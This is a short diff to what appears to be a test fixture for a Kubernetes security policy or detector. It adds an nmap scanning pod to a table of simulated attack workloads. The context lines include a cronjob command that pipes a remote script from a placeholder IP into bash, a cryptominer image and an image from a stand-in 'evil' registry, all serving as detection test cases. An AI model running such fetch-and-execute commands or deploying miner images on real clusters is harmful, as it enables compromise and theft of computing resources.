@@ -78,6 +78,7 @@ ATTACKS = {
     "workload_suspicious_command": run(
         command=["sh", "-c", "curl -s http://192.0.2.80/p.sh | bash"], resource="cronjobs"
     ),
+    "attack_image_pod": run(image="securecodebox/nmap:7.95"),
     "miner_image_pod": run(image="docker.io/xmrig/xmrig:6.21", resource="deployments"),
     "unlisted_image_pod": attack(
         made(spec(image="registry.evil.example/x:1")), lists={"known_images": KNOWN_IMAGES}
